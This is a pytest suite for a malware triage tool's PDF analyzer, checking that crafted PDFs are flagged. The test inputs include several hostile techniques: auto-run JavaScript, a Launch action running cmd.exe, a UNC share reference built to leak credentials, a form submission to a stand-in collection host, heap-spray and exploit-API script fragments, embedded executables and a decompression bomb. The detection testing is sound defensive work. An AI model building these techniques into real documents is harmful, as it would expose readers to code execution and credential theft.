"""The PDF writer and the PDF analyzer: actions and their triggers, attachments, the keyword scan
that survives damaged files, decoy labelling, and the public PDFs in the corpus."""

from __future__ import annotations

import io
import re
import zlib
from pathlib import Path

import pypdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from restytriage import pdfformat
from restytriage.analysis import Context, Item, Sibling
from restytriage.analyzers import pdf
from restytriage.blob import Blob
from restytriage.config import Config, Limits
from restytriage.engine import triage_bytes
from restytriage.model import Node, Report, walk
from restytriage.samples.pdf_writer import assemble, build_pdf

CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "corpus"


def finding_ids(report: Report) -> set[str]:
    return {f.id for node in walk(report.root) for f in node.findings}


def root_pdf(report: Report) -> Node:
    assert report.root.type == "pdf"
    assert not report.root.errors, report.root.errors
    return report.root


def simple_pdf(*objects: bytes) -> bytes:
    """A PDF whose catalog (object 1) and other objects are given as raw dictionary text; object 2
    is always an empty page tree so viewers accept it."""
    return assemble([objects[0], b"<< /Type /Pages /Kids [] /Count 0 >>", *objects[1:]], catalog=1)


# --- the writer --------------------------------------------------------------------------------


def test_writer_is_deterministic_and_strictly_valid() -> None:
    arguments = dict(
        text="Line one (with parentheses)\nLine two: é",
        title="Résumé",
        author="MOFA",
        open_action_js="app.alert(1);",
        launch="cmd.exe",
        uris=["https://a.example/x"],
        embedded={"b.txt": b"bee", "a.bin": b"\x00\x01"},
        launch_parameters="/c echo",
    )
    data = build_pdf(**arguments)
    assert data == build_pdf(**arguments)
    reader = pypdf.PdfReader(io.BytesIO(data), strict=True)  # strict: any xref offset error raises
    assert len(reader.pages) == 1
    assert reader.metadata is not None and reader.metadata.title == "Résumé"
    assert {name: files[0] for name, files in reader.attachments.items()} == {
        "a.bin": b"\x00\x01",
        "b.txt": b"bee",
    }
    assert "Line one (with parentheses)" in reader.pages[0].extract_text()
    # Every xref entry points at its own "N 0 obj" header.
    xref_at = int(data.rsplit(b"startxref\n", 1)[1].split()[0])
    lines = data[xref_at:].split(b"\n")
    assert lines[0] == b"xref" and lines[2] == b"0000000000 65535 f "
    count = int(lines[1].split()[1])
    for number, line in enumerate(lines[3 : 3 + count - 1], start=1):
        assert data[int(line[:10]) :].startswith(f"{number} 0 obj".encode())


# --- actions and triggers ----------------------------------------------------------------------


def test_decoy_document_is_clean_and_described() -> None:
    report = triage_bytes(build_pdf("Programme", title="Seminar programme", author="MOFA"), "programme.pdf")
    node = root_pdf(report)
    assert report.verdict == "clean" and not node.findings
    assert (
        node.facts["pages"] == "1"
        and node.facts["title"] == "Seminar programme"
        and node.facts["author"] == "MOFA"
    )
    assert node.metadata["pdf"]["info"]["producer"].startswith("Microsoft")


def test_open_action_javascript_is_flagged_with_its_trigger_and_text() -> None:
    script = "var u = 'https://track.restylink.invalid/p?id=7'; app.alert('hi');"
    report = triage_bytes(build_pdf("x", open_action_js=script), "js.pdf")
    node = root_pdf(report)
    assert {"pdf.javascript", "pdf.auto_action"} <= finding_ids(report)
    (action,) = node.metadata["pdf"]["actions"]
    assert (
        action["type"] == "JavaScript" and action["trigger"] == "/OpenAction" and action["script"] == script
    )
    assert ("url", "https://track.restylink.invalid/p?id=7") in {(i.type, i.value) for i in report.iocs}
    assert report.verdict == "suspicious"


def test_launch_of_cmd_is_malicious_and_the_command_is_shown() -> None:
    data = build_pdf("x", launch="cmd.exe", launch_parameters="/c start calc")
    report = triage_bytes(data, "launch.pdf")
    node = root_pdf(report)
    assert {"pdf.launch", "pdf.launch_interpreter", "pdf.auto_action"} <= finding_ids(report)
    assert node.facts["launch"] == "cmd.exe /c start calc"
    assert report.verdict == "malicious"


def test_launch_chained_after_javascript_keeps_the_open_trigger() -> None:
    report = triage_bytes(build_pdf("x", open_action_js="app.alert(1)", launch="notepad.exe"), "both.pdf")
    actions = root_pdf(report).metadata["pdf"]["actions"]
    assert {(a["type"], a["trigger"]) for a in actions} == {
        ("JavaScript", "/OpenAction"),
        ("Launch", "/OpenAction"),
    }
    assert "pdf.launch_interpreter" not in finding_ids(report)  # notepad is not an interpreter


def test_links_become_iocs_without_findings() -> None:
    uris = ["https://portal.example/login", "mailto:desk@example.org", "http://198.51.100.9/a"]
    report = triage_bytes(build_pdf("links", uris=uris), "links.pdf")
    node = root_pdf(report)
    assert report.verdict == "clean" and not node.findings
    assert node.metadata["pdf"]["uris"] == sorted(uris)
    iocs = {(i.type, i.value) for i in report.iocs}
    assert {
        ("url", uris[0]),
        ("email", "desk@example.org"),
        ("ip", "198.51.100.9"),
        ("domain", "portal.example"),
    } <= iocs


def test_remote_actions_to_a_share_leak_credentials() -> None:
    data = simple_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
        b"<< /S /GoToR /F (\\\\\\\\203.0.113.5\\\\docs\\\\a.pdf) /D [0 /Fit] >>",
        b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.restylink.invalid/post) >> >>",
    )
    report = triage_bytes(data, "remote.pdf")
    ids = finding_ids(report)
    assert {"pdf.unc_reference", "pdf.submit_form", "pdf.auto_action"} <= ids
    assert ("ip", "203.0.113.5") in {(i.type, i.value) for i in report.iocs}


def test_acrobat_form_helpers_are_not_counted_as_javascript() -> None:
    data = simple_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] >> >>",
        b'<< /FT /Tx /T (amount) /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, "", true\\);) >>'
        b' /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, "", true\\);) >> >> >>',
    )
    report = triage_bytes(data, "form.pdf")
    node = root_pdf(report)
    assert not {"pdf.javascript", "pdf.auto_action"} & finding_ids(report)
    assert node.metadata["pdf"]["form_helper_scripts"] == 2
    assert node.metadata["pdf"]["forms"] == {"acroform_fields": 1, "xfa": False}


def test_xfa_form_scripts_are_javascript_that_runs_on_open() -> None:
    xfa = b'<xdp:xdp><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert("xfa");</script></event></subform></template></xdp:xdp>'
    data = simple_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 3 0 R >> >>",
        b"<< /Length %d >>\nstream\n" % len(xfa) + xfa + b"\nendstream",
    )
    report = triage_bytes(data, "xfa.pdf")
    node = root_pdf(report)
    assert {"pdf.xfa", "pdf.javascript", "pdf.auto_action"} <= finding_ids(report)
    assert node.facts["JavaScript"] == 'app.alert("xfa");'
    assert node.metadata["pdf"]["forms"] == {"acroform_fields": 0, "xfa": True}


@pytest.mark.parametrize(
    ("script", "finding"),
    [
        ("var s = unescape('%u9090%u9090'); util.printf('%45000f', 1);", "pdf.js_exploit_api"),
        ("eval(String.fromCharCode(97, 112, 112));", "pdf.js_obfuscation"),
        ("this.exportDataObject({cName: 'a.exe', nLaunch: 2});", "pdf.js_opens_attachment"),
    ],
)
def test_script_content_findings(script: str, finding: str) -> None:
    assert finding in finding_ids(triage_bytes(build_pdf("x", open_action_js=script), "s.pdf"))


def test_page_event_and_names_tree_scripts_count_as_automatic() -> None:
    data = assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(init) 4 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /AA << /O << /S /JavaScript /JS (a\\(\\)) >> >> >>",
            b"<< /S /JavaScript /JS (b\\(\\)) >>",
        ],
        catalog=1,
    )
    actions = root_pdf(triage_bytes(data, "events.pdf")).metadata["pdf"]["actions"]
    assert {a["trigger"] for a in actions} == {"/AA /O", "/Names /JavaScript"}


def test_obfuscated_names_are_decoded_and_flagged() -> None:
    data = simple_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(7\\)) >> >>"
    )
    report = triage_bytes(data, "hex.pdf")
    node = root_pdf(report)
    assert {"pdf.obfuscated_names", "pdf.javascript", "pdf.auto_action"} <= finding_ids(report)
    assert node.metadata["pdf"]["obfuscated_names"] == {"/JavaScript": 1, "/JS": 1}
    assert node.facts["JavaScript"] == "app.alert(7)"


# --- attachments, trailing data ----------------------------------------------------------------


def test_attachment_becomes_a_child_and_executables_are_flagged() -> None:
    payload = b"MZ" + bytes(200)
    report = triage_bytes(
        build_pdf("x", embedded={"invoice.exe": payload, "notes.txt": b"hello\n"}), "att.pdf"
    )
    node = root_pdf(report)
    children = {c.name: c for c in node.children}
    assert set(children) == {"invoice.exe", "notes.txt"}
    assert children["invoice.exe"].type == "pe" and children["invoice.exe"].labels == ["attachment"]
    assert children["notes.txt"].size == 6
    assert {"pdf.embedded_file", "pdf.embedded_executable"} <= finding_ids(report)


def test_flate_attachment_is_inflated_and_a_flate_bomb_is_stopped() -> None:
    content = b"payload " * 1000

    def with_attachment(data: bytes) -> bytes:
        stream = (
            b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
            + data
            + b"\nendstream"
        )
        return simple_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(p.bin) 4 0 R] >> >> >>",
            stream,
            b"<< /Type /Filespec /F (p.bin) /EF << /F 3 0 R >> >>",
        )

    report = triage_bytes(with_attachment(zlib.compress(content)), "flate.pdf")
    (child,) = root_pdf(report).children
    assert child.name == "p.bin" and child.size == len(content)

    bomb = zlib.compress(bytes(40 << 20), 9)  # 40 MB of zeros in ~40 KB
    report = triage_bytes(with_attachment(bomb), "bomb.pdf")
    assert "limit.compression_ratio" in finding_ids(report)
    assert not root_pdf(report).children


def test_data_after_eof_is_carved_and_a_late_header_is_flagged() -> None:
    appended = b"MZ" + bytes(100)
    report = triage_bytes(b"junk before the header\n" + build_pdf("x") + b"\r\n" + appended, "tail.pdf")
    node = root_pdf(report)
    assert {"pdf.trailing_data", "pdf.header_offset"} <= finding_ids(report)
    (child,) = node.children
    assert child.type == "pe" and child.size == len(appended)
    assert node.metadata["pdf"]["trailing_bytes"] == len(appended)


# --- damaged files: the keyword scan still reports ---------------------------------------------


def test_unparsable_pdf_still_reports_its_javascript() -> None:
    data = b"%PDF-1.4\n% no xref, no trailer\n1 0 obj << /OpenAction << /S /JavaScript /JS <6170702E616C657274283129> >>"
    report = triage_bytes(data, "broken.pdf")
    node = root_pdf(report)
    assert {"pdf.javascript", "pdf.auto_action"} <= finding_ids(report)
    assert node.facts["JavaScript"] == "app.alert(1)"


def test_keywords_inside_stream_data_of_a_readable_pdf_are_not_findings() -> None:
    # Compressed images and attachments hold short names like /JS by chance; a full walk wins.
    noise = b"\x8f /JS (x) /AA /Launch \x01" * 3
    report = triage_bytes(build_pdf("x", embedded={"photo.jpg": noise}), "noise.pdf")
    node = root_pdf(report)
    assert node.metadata["pdf"]["keywords"]["/JS"] == 3
    assert not {"pdf.javascript", "pdf.auto_action", "pdf.launch"} & finding_ids(report)


@pytest.mark.parametrize("password", ["", "hunter2"])
def test_encrypted_pdf_is_read_with_the_empty_password_or_by_keywords(password: str) -> None:
    writer = pypdf.PdfWriter(
        clone_from=pypdf.PdfReader(io.BytesIO(build_pdf("x", open_action_js="app.alert(1)")))
    )
    writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    report = triage_bytes(buffer.getvalue(), "enc.pdf")
    node = root_pdf(report)
    assert {"pdf.encrypted", "pdf.javascript", "pdf.auto_action"} <= finding_ids(report)
    assert node.metadata["pdf"]["opened_with_empty_password"] is (password == "")
    script = next(f for f in node.findings if f.id == "pdf.javascript").evidence
    # Decrypted, the script itself is shown; locked, only the keyword scan speaks.
    assert script.endswith("app.alert(1)") if password == "" else script.startswith("keyword scan")


def test_literal_string_reader_handles_escapes_and_nesting() -> None:
    raw = rb"(a\(b\) (nested) \101\t\\ end) trailing"
    assert pdfformat.literal_string(raw, 0) == b"a(b) (nested) A\t\\ end"


@settings(max_examples=40, deadline=None)
@given(st.lists(st.integers(min_value=0, max_value=2000), min_size=1, max_size=12))
def test_keyword_counts_are_exact_across_chunk_boundaries(positions: list[int]) -> None:
    filler = bytearray(b"x" * 2100)
    placed = 0
    for position in sorted(set(positions)):
        token = b" /JavaScript /J#53 "
        if position >= placed and position + len(token) <= len(filler):
            filler[position : position + len(token)] = token
            placed = position + len(token)
    expected = bytes(filler).count(b"/JavaScript ")
    original = pdf.SCAN_CHUNK
    pdf.SCAN_CHUNK = 300  # many rounds over a small input
    try:
        scan = pdf.scan_keywords(Blob.of(bytes(filler)), _context())
    finally:
        pdf.SCAN_CHUNK = original
    assert scan.counts["/JavaScript"] == expected
    assert scan.counts["/JS"] == scan.obfuscated["/JS"] == expected


# --- decoy labelling ---------------------------------------------------------------------------


def _context() -> Context:
    return Context(Config(), Path("/nonexistent-unused"), deadline=float("inf"))


def _analyze(data: bytes, labels: tuple[str, ...] = (), siblings: tuple[Sibling, ...] = ()):
    item = Item(
        blob=Blob.of(data),
        name="invite.pdf",
        type="pdf",
        extension="pdf",
        depth=1,
        labels=labels,
        siblings=siblings,
    )
    return pdf.analyze(item, _context())


def test_a_pdf_beside_a_shortcut_or_opened_by_one_is_a_decoy() -> None:
    data = build_pdf("Programme")
    beside = _analyze(data, siblings=(Sibling("invite.pdf.lnk", "lnk"), Sibling("readme.txt", "text")))
    assert [f.id for f in beside.findings] == ["pdf.decoy"] and beside.findings[0].score == 0
    assert "invite.pdf.lnk (lnk)" in beside.facts["role"]
    opened = _analyze(data, labels=("decoy",))
    assert opened.facts["role"] == "decoy: a shortcut's command line opens it"
    alone = _analyze(data, siblings=(Sibling("notes.txt", "text"),))
    assert not alone.findings and "role" not in alone.facts


# --- robustness --------------------------------------------------------------------------------

_SEEDS = [
    build_pdf("seed", open_action_js="app.alert(1)", uris=["https://a.example/"], embedded={"a.txt": b"a"}),
    build_pdf("seed", launch="cmd.exe", launch_parameters="/c x"),
]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    seed=st.sampled_from(_SEEDS),
    edits=st.lists(
        st.tuples(st.integers(min_value=0, max_value=4000), st.binary(min_size=0, max_size=8)), max_size=6
    ),
    cut=st.integers(min_value=0, max_value=4000),
)
def test_mutated_pdfs_never_break_the_analyzer(seed: bytes, edits: list[tuple[int, bytes]], cut: int) -> None:
    data = bytearray(seed)
    for offset, replacement in edits:
        at = offset % max(1, len(data))
        data[at : at + len(replacement)] = replacement
    mutated = bytes(data[: max(16, cut)]) if cut < len(data) else bytes(data)
    report = triage_bytes(mutated, "m.pdf", Config(limits=Limits(max_seconds=20)))
    errors = [e for node in walk(report.root) for e in node.errors if e.analyzer == "pdf"]
    assert not errors


@settings(max_examples=30, deadline=None)
@given(st.binary(max_size=2000))
def test_random_bytes_after_a_header_never_raise(tail: bytes) -> None:
    report = triage_bytes(b"%PDF-1.7\n" + tail, "r.pdf")
    assert not [e for node in walk(report.root) for e in node.errors if e.analyzer == "pdf"]


# --- public corpus -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pdf_corpus() -> Path:
    if not CORPUS.is_dir():
        pytest.skip("public corpus (../shared/corpus) not present")
    return CORPUS


def _triage_file(path: Path) -> Report:
    from restytriage.engine import triage

    return triage(path)


def test_corpus_word_pdf_has_its_three_links_and_is_clean(pdf_corpus: Path) -> None:
    report = _triage_file(pdf_corpus / "strelka/fixtures/test.pdf")
    node = root_pdf(report)
    assert report.verdict == "clean"
    assert node.metadata["pdf"]["uris"] == ["http://bing.com", "https://duckduckgo.com", "https://google.com"]
    assert node.facts["pages"] == "1" and node.facts["author"] == "Ryan.OHoro"
    assert node.metadata["pdf"]["forms"]["acroform_fields"] == 0


def test_corpus_launch_pdf(pdf_corpus: Path) -> None:
    report = _triage_file(pdf_corpus / "corkami/pdf/launch.pdf")
    node = root_pdf(report)
    assert {"pdf.launch", "pdf.auto_action"} <= finding_ids(report)
    assert node.facts["launch"].startswith("VIRUS.exe line 1")
    assert node.facts["open action"] == "Launch (/OpenAction)"


def test_corpus_javascript_pdf_has_three_triggers(pdf_corpus: Path) -> None:
    report = _triage_file(pdf_corpus / "corkami/pdf/javascript.pdf")
    actions = root_pdf(report).metadata["pdf"]["actions"]
    assert sorted(a["trigger"] for a in actions) == ["/AA /O", "/AA /WC", "/OpenAction"]
    assert all(a["script"].startswith('app.alert("http://www.corkami.com') for a in actions)
    assert {"pdf.javascript", "pdf.auto_action"} <= finding_ids(report)


def test_corpus_eval_pdf_is_read_by_the_keyword_scan(pdf_corpus: Path) -> None:
    report = _triage_file(pdf_corpus / "corkami/pdf/js-eval.pdf")
    node = root_pdf(report)
    assert {"pdf.parse_error", "pdf.javascript", "pdf.js_obfuscation", "pdf.auto_action"} <= finding_ids(
        report
    )
    assert re.search(r"eval\( 'app\.alert\(\"Hello World!\"\);' \);", node.facts["JavaScript"])


def test_corpus_attachment_pdf(pdf_corpus: Path) -> None:
    report = _triage_file(pdf_corpus / "corkami/pdf/attachedNames.pdf")
    (child,) = root_pdf(report).children
    assert child.name == "simple.txt" and child.size == len(b"Hello World!")
    assert "pdf.embedded_file" in finding_ids(report)


def test_corpus_minimal_pdf_is_clean(pdf_corpus: Path) -> None:
    report = _triage_file(pdf_corpus / "corkami/mini/pdf.pdf")
    assert report.verdict == "clean" and root_pdf(report).facts["pages"] == "1"
